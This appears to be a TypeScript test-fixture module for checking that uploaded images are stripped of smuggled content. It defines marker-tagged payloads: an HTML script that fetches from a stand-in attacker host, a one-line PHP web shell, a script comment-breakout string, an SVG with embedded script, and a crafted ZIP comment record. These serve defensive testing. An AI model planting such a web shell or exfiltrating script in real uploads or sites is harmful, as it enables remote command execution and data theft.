import { randomBytes } from 'node:crypto'

/** Stands in everything that is carried along with a picture, and must be nowhere afterwards. */
export const STRANGER = 'PASAJERO-SIN-TIQUETE'

export const HTML = `<!doctype html><script>fetch('https://ladron.example/${STRANGER}')</script>`
export const PHP = `<?php system($_GET['${STRANGER}']); ?>`
export const SCRIPT = `*/=1;alert('${STRANGER}')/*`

/** An archive that every program opens: empty but for a remark. */
export const ZIP = Buffer.concat([
  Buffer.from('PK\x05\x06', 'latin1'),
  Buffer.alloc(16),
  Buffer.from([STRANGER.length, 0]),
  Buffer.from(STRANGER),
])

export const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert('${STRANGER}')</script></svg>`

/** Random, and with the name of who it is in it. */
export const noise = (length: number) =>
  Buffer.concat([Buffer.from(STRANGER), randomBytes(length - STRANGER.length)])
